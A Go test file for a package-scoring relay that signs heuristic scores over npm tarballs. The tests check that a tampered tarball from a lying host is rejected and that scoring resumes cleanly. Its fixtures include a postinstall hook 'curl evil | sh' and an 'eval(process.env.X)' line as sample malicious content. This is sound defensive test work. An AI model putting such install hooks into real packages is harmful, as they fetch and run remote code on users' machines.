package relay

import (
	"context"
	"crypto/sha256"
	"errors"
	"log/slog"
	"net"
	"os"
	"path/filepath"
	"testing"

	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/crypto"

	"github.com/vouchpm/vouch/enclave/wire"
	"github.com/vouchpm/vouch/host/store"
	"github.com/vouchpm/vouch/scorer"
	"github.com/vouchpm/vouch/scorer/corpus"
	"github.com/vouchpm/vouch/scorer/heuristics"
	"github.com/vouchpm/vouch/scorer/server"
)

var domain = wire.Domain{ChainID: 1337, Registry: common.HexToAddress("0x5FbDB2315678afecb367f032d93F642f64180aa3")}

// startScorer runs the real scorer server (heuristics only, unattested) on loopback.
func startScorer(t *testing.T) string {
	t.Helper()
	key, err := crypto.GenerateKey()
	if err != nil {
		t.Fatal(err)
	}
	info := wire.ScorerInfo{Mode: scorer.ModeHeuristicsOnly, InputVersion: scorer.InputVersion, ChainID: domain.ChainID,
		Registry: domain.Registry.Bytes(), ModelHash: make([]byte, 32), Address: crypto.PubkeyToAddress(key.PublicKey).Bytes()}
	srv := &server.Server{Engine: &scorer.Engine{Analyzer: heuristics.New(nil), Threshold: 50},
		Signer: &scorer.Signer{Key: key, Domain: domain}, Info: info}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan struct{})
	go func() { _ = srv.Serve(ctx, ln); close(done) }()
	t.Cleanup(func() { cancel(); ln.Close(); <-done })
	return ln.Addr().String()
}

func pack(t *testing.T, files map[string]string) []byte {
	t.Helper()
	dir := t.TempDir()
	for name, body := range files {
		p := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	tgz, err := corpus.Pack(dir)
	if err != nil {
		t.Fatal(err)
	}
	return tgz
}

func TestScoreReleaseAndHostLies(t *testing.T) {
	ctx := context.Background()
	st, err := store.Open(ctx, filepath.Join(t.TempDir(), "host.db"))
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	addr := startScorer(t)
	tgz := pack(t, map[string]string{"package.json": `{"name":"left-pad","version":"1.0.0","main":"index.js"}`, "index.js": "module.exports = (s, n) => s.padStart(n)\n"})
	ch := common.Hash(sha256.Sum256(tgz)).Hex()
	if err := st.PutTarball(ctx, ch, tgz); err != nil {
		t.Fatal(err)
	}
	id := "0x" + common.Bytes2Hex(crypto.Keccak256([]byte("release")))
	if _, err := st.CreateRelease(ctx, store.Release{ID: id, Package: "left-pad", Version: "1.0.0", ContentHash: ch, Proposal: []byte(`{}`)}); err != nil {
		t.Fatal(err)
	}

	// The host lies: it alters the tarball on its way to the scorer. The
	// scorer re-hashes what it got and signs that hash, so the lie shows.
	liar := &Scorer{Store: st, Addr: addr, Domain: domain, Tamper: func(b []byte) []byte {
		return pack(t, map[string]string{"package.json": `{"name":"left-pad","version":"1.0.0","scripts":{"postinstall":"curl evil | sh"}}`})
	}}
	if _, err := liar.ScoreRelease(ctx, id); !errors.Is(err, ErrScoreMismatch) {
		t.Fatalf("altered tarball: %v, want ErrScoreMismatch", err)
	}
	if _, err := st.GetScore(ctx, id); !errors.Is(err, store.ErrNotFound) {
		t.Fatal("a score over altered bytes was stored")
	}

	honest := &Scorer{Store: st, Addr: addr, Domain: domain}
	sc, err := honest.ScoreRelease(ctx, id)
	if err != nil {
		t.Fatal(err)
	}
	if sc.Score < 0 || sc.Score > 100 || len(sc.Sig) != 65 || len(sc.Report) == 0 {
		t.Fatalf("score = %+v", sc)
	}
	again, err := honest.ScoreRelease(ctx, id)
	if err != nil || string(again.Sig) != string(sc.Sig) {
		t.Fatalf("retry rescored: %v", err)
	}
	// Another chain's domain: the scorer's signature no longer checks.
	wrong := &Scorer{Store: st, Addr: addr, Domain: wire.Domain{ChainID: 1, Registry: domain.Registry}}
	id2 := "0x" + common.Bytes2Hex(crypto.Keccak256([]byte("release2")))
	if _, err := st.CreateRelease(ctx, store.Release{ID: id2, Package: "left-pad", Version: "1.0.0", ContentHash: ch, Proposal: []byte(`{}`)}); err != nil {
		t.Fatal(err)
	}
	if _, err := wrong.ScoreRelease(ctx, id2); !errors.Is(err, ErrScoreMismatch) {
		t.Fatalf("score for another domain: %v", err)
	}
}

func TestScorePendingResumes(t *testing.T) {
	ctx := context.Background()
	st, err := store.Open(ctx, filepath.Join(t.TempDir(), "host.db"))
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	addr := startScorer(t)
	for i, v := range []string{"1.0.0", "1.0.1"} {
		tgz := pack(t, map[string]string{"package.json": `{"name":"p","version":"` + v + `"}`, "index.js": "eval(process.env.X)\n"})
		ch := common.Hash(sha256.Sum256(tgz)).Hex()
		if err := st.PutTarball(ctx, ch, tgz); err != nil {
			t.Fatal(err)
		}
		id := "0x" + common.Bytes2Hex(crypto.Keccak256([]byte{byte(i)}))
		if _, err := st.CreateRelease(ctx, store.Release{ID: id, Package: "p", Version: v, ContentHash: ch, Proposal: []byte(`{}`)}); err != nil {
			t.Fatal(err)
		}
	}
	s := &Scorer{Store: st, Addr: addr, Domain: domain}
	log := slog.New(slog.DiscardHandler)
	if n := s.ScorePending(ctx, log); n != 2 {
		t.Fatalf("first pass scored %d, want 2", n)
	}
	if n := s.ScorePending(ctx, log); n != 0 {
		t.Fatalf("second pass scored %d, want 0", n)
	}
	list, _ := st.ListScores(ctx, "p", 10)
	if len(list) != 2 {
		t.Fatalf("stored scores = %d", len(list))
	}
}
